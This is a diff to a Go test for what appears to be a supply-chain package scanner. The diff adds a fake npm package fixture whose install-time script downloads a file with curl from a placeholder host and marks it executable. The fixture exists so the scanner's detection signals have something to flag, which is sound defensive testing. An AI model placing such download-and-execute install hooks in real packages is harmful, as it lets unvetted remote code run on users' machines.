@@ -11,6 +11,9 @@ import (
 	"pgregory.net/rapid"
 
 	"github.com/lockkeeper/lockkeeper/internal/advisory"
+	"github.com/lockkeeper/lockkeeper/internal/artifact"
+	"github.com/lockkeeper/lockkeeper/internal/code"
+	"github.com/lockkeeper/lockkeeper/internal/evidence"
 	"github.com/lockkeeper/lockkeeper/internal/registry"
 	"github.com/lockkeeper/lockkeeper/internal/signal"
 )
@@ -190,7 +193,13 @@ func TestConditionsAreMet(t *testing.T) {
 	d.Release = &release
 	d.Package = &registry.Package{Ecosystem: "npm", Has: registry.Facts{Times: true}, Releases: []registry.Release{before, release}}
 	found := make(map[string]Weighed)
-	for _, f := range signal.Run(d, signal.Context{Now: now}) {
+	inside := dossier()
+	inside.Change.Name = "pad-of-the-acme"
+	inside.Package = &registry.Package{Ecosystem: "npm", Created: now.AddDate(-1, 0, 0)}
+	script := []byte("curl http://files.invalid/x -o x\nchmod +x x\n")
+	profile := &artifact.Profile{Files: []artifact.File{{Path: "get.sh", Kind: artifact.Script, Reach: artifact.AtInstall, Code: code.Read("get.sh", script)}}}
+	inside.Content = &evidence.Content{Profile: profile, Delta: artifact.Diff(nil, profile)}
+	for _, f := range slices.Concat(signal.Run(d, signal.Context{Now: now}), signal.Run(inside, signal.Context{Now: now})) {
 		found[f.Signal] = Weighed{Finding: f}
 	}
 	for _, e := range echoes {
